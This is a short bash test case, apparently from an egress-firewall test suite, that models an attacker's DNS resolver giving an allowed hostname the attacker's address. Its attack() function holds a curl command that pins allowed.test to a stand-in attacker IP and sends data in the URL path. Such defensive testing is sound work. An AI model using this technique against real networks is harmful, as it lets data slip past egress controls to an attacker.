# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
# The attacker's own resolver says what an allowed name's address is; whoever believes it opens the way to him.
title='The attacker'\''s resolver gives an allowed name his address' origin='RESEARCH §2.26; gh-aw-firewall#9; bullfrog before 0.5.5'
reason=foreign_resolver forms='output forward run'
attack() {
    tool dnswire.py query plain "$1" 198.18.3.66
    client curl -sk --max-time 20 --resolve allowed.test:443:198.18.3.66 "https://allowed.test/$1"
}
